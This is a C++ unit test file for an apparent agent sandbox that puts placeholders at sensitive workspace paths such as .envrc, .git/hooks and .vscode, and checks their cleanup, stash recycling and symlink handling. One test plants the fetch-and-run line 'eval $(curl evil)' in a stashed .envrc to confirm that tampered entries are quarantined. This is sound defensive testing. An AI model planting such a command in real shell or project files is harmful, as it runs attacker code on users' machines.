// Placeholders for protected workspace paths (a real temporary directory, no privileges).
#include "agentbox/sandbox/protect.hpp"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>

namespace agentbox::sandbox {
namespace {

class Protect : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/tmp/agentbox-protect-XXXXXX";
    ASSERT_NE(::mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
  }
  void TearDown() override {
    std::string cmd = "rm -rf '" + dir_ + "'";
    ASSERT_EQ(std::system(cmd.c_str()), 0);  // NOLINT
  }
  bool exists(const std::string& rel) const {
    struct stat st {};
    return ::lstat((dir_ + "/" + rel).c_str(), &st) == 0;
  }
  std::string dir_;
};

TEST_F(Protect, MissingPathsGetPlaceholdersThatGoAway) {
  ASSERT_EQ(::mkdir((dir_ + "/.git").c_str(), 0755), 0);
  {
    auto set = prepare_protected(dir_, {".git/hooks", ".git/config", ".envrc", ".vscode"});
    ASSERT_TRUE(set) << set.error().message();
    EXPECT_EQ(set->paths,
              (std::vector<std::string>{".envrc", ".git/config", ".git/hooks", ".vscode"}));
    EXPECT_TRUE(exists(".git/hooks"));
    EXPECT_TRUE(exists(".envrc"));
    struct stat st {};
    ASSERT_EQ(::stat((dir_ + "/.vscode").c_str(), &st), 0);
    EXPECT_TRUE(S_ISDIR(st.st_mode));
    ASSERT_EQ(::stat((dir_ + "/.envrc").c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode));
  }  // destructor removes them
  EXPECT_FALSE(exists(".git/hooks"));
  EXPECT_FALSE(exists(".git/config"));
  EXPECT_FALSE(exists(".envrc"));
  EXPECT_FALSE(exists(".vscode"));
  EXPECT_TRUE(exists(".git"));  // it was there before
}

// With a stash, a session's placeholders are renamed into it at the end and renamed back out by
// the next session: the same inodes, no new ones, and the workspace ends as clean as without.
TEST_F(Protect, PlaceholdersAreRecycledThroughTheStash) {
  std::string stash = dir_ + "/state-placeholders";
  ASSERT_EQ(::mkdir((dir_ + "/ws").c_str(), 0755), 0);
  std::string ws = dir_ + "/ws";
  const std::vector<std::string> rels = {".envrc", ".gitmodules", ".vscode", ".idea"};
  std::map<std::string, ino_t> first;
  {
    auto set = prepare_protected(ws, rels, stash);
    ASSERT_TRUE(set) << set.error().message();
    for (const auto& it : set->placeholders.items) {
      first[it.path] = it.ino;
    }
  }
  EXPECT_FALSE(exists("ws/.envrc"));
  EXPECT_FALSE(exists("ws/.vscode"));
  EXPECT_TRUE(exists("state-placeholders/f0") && exists("state-placeholders/f1"));
  EXPECT_TRUE(exists("state-placeholders/d0") && exists("state-placeholders/d1"));
  {
    auto set = prepare_protected(ws, rels, stash);
    ASSERT_TRUE(set) << set.error().message();
    ASSERT_EQ(set->placeholders.items.size(), 4u);
    std::set<ino_t> before;
    for (const auto& [path, ino] : first) {
      before.insert(ino);
    }
    for (const auto& it : set->placeholders.items) {
      EXPECT_TRUE(before.contains(it.ino)) << it.path << " is a new inode, not a recycled one";
    }
    struct stat st {};
    ASSERT_EQ(::lstat((ws + "/.vscode").c_str(), &st), 0);
    EXPECT_TRUE(S_ISDIR(st.st_mode));
    ASSERT_EQ(::lstat((ws + "/.envrc").c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode));
    EXPECT_FALSE(exists("state-placeholders/f0") || exists("state-placeholders/d0"));
  }
  EXPECT_FALSE(exists("ws/.envrc") || exists("ws/.gitmodules") || exists("ws/.vscode") ||
               exists("ws/.idea"));
}

// A stashed entry that is not what a fresh placeholder is (here: written to, as a planted
// `.envrc` would be) is never put in the workspace: it is quarantined and a fresh one is made.
TEST_F(Protect, TamperedStashEntryIsQuarantinedNotUsed) {
  std::string stash = dir_ + "/stash";
  ASSERT_EQ(::mkdir(stash.c_str(), 0700), 0);
  std::ofstream(stash + "/f0") << "eval $(curl evil)\n";
  ASSERT_EQ(::mkdir((stash + "/d0").c_str(), 0755), 0);
  std::ofstream(stash + "/d0/tasks.json") << "{}";
  ASSERT_EQ(::mkdir((dir_ + "/ws").c_str(), 0755), 0);
  {
    auto set = prepare_protected(dir_ + "/ws", {".envrc", ".vscode"}, stash);
    ASSERT_TRUE(set) << set.error().message();
    struct stat st {};
    ASSERT_EQ(::lstat((dir_ + "/ws/.envrc").c_str(), &st), 0);
    EXPECT_EQ(st.st_size, 0);
    EXPECT_FALSE(exists("ws/.vscode/tasks.json"));
    EXPECT_TRUE(exists("ws/.vscode"));
  }
  int quarantined = 0;
  for (const auto& e : std::filesystem::directory_iterator(stash)) {
    quarantined += e.path().filename().string().rfind("quarantine-", 0) == 0 ? 1 : 0;
  }
  EXPECT_EQ(quarantined, 2);
  EXPECT_FALSE(exists("ws/.envrc"));
}

// Written to on the host during the session: the file is neither deleted nor stashed.
TEST_F(Protect, PlaceholderWrittenDuringTheSessionStaysInTheWorkspace) {
  std::string stash = dir_ + "/stash";
  ASSERT_EQ(::mkdir((dir_ + "/ws").c_str(), 0755), 0);
  {
    auto set = prepare_protected(dir_ + "/ws", {".envrc"}, stash);
    ASSERT_TRUE(set);
    std::ofstream(dir_ + "/ws/.envrc") << "export A=1\n";
  }
  EXPECT_TRUE(exists("ws/.envrc"));
  EXPECT_FALSE(exists("stash/f0"));
}

TEST_F(Protect, ExistingPathsAreProtectedAndKept) {
  ASSERT_EQ(::mkdir((dir_ + "/.idea").c_str(), 0755), 0);
  std::ofstream(dir_ + "/.idea/workspace.xml") << "<x/>";
  {
    auto set = prepare_protected(dir_, {".idea"});
    ASSERT_TRUE(set);
    EXPECT_EQ(set->paths, std::vector<std::string>{".idea"});
    EXPECT_TRUE(set->placeholders.items.empty());
  }
  EXPECT_TRUE(exists(".idea/workspace.xml"));
}

TEST_F(Protect, MissingParentIsProtectedItself) {
  auto set = prepare_protected(dir_, {".git/hooks", ".git/config"});
  ASSERT_TRUE(set);
  EXPECT_EQ(set->paths, std::vector<std::string>{".git"});
  EXPECT_TRUE(exists(".git"));
  EXPECT_FALSE(exists(".git/hooks"));
  set->placeholders.remove();
  EXPECT_FALSE(exists(".git"));
}

TEST_F(Protect, WorktreeGitFileIsProtectedInsteadOfBelowIt) {
  std::ofstream(dir_ + "/.git") << "gitdir: /elsewhere\n";
  auto set = prepare_protected(dir_, {".git/hooks"});
  ASSERT_TRUE(set);
  EXPECT_EQ(set->paths, std::vector<std::string>{".git"});
}

TEST_F(Protect, SymlinkedComponentIsProtectedAsTheLinkAndNeverFollowed) {
  ASSERT_EQ(::mkdir((dir_ + "/real").c_str(), 0755), 0);
  ASSERT_EQ(::symlink("real", (dir_ + "/.vscode").c_str()), 0);
  ASSERT_EQ(::symlink("/nonexistent-target", (dir_ + "/.envrc").c_str()), 0);
  auto set = prepare_protected(dir_, {".vscode", ".envrc"});
  ASSERT_TRUE(set);
  EXPECT_EQ(set->paths, (std::vector<std::string>{".envrc", ".vscode"}));
  EXPECT_TRUE(set->placeholders.items.empty());
  EXPECT_FALSE(exists("/nonexistent-target"));
}

TEST_F(Protect, NonEmptyPlaceholderIsLeftAlone) {
  auto set = prepare_protected(dir_, {".vscode"});
  ASSERT_TRUE(set);
  std::ofstream(dir_ + "/.vscode/keep") << "x";
  set->placeholders.remove();
  EXPECT_TRUE(exists(".vscode/keep"));
}

TEST_F(Protect, DotDotIsIgnored) {
  auto set = prepare_protected(dir_, {"../escape", "a/../../b"});
  ASSERT_TRUE(set);
  EXPECT_TRUE(set->paths.empty());
}

}  // namespace
}  // namespace agentbox::sandbox
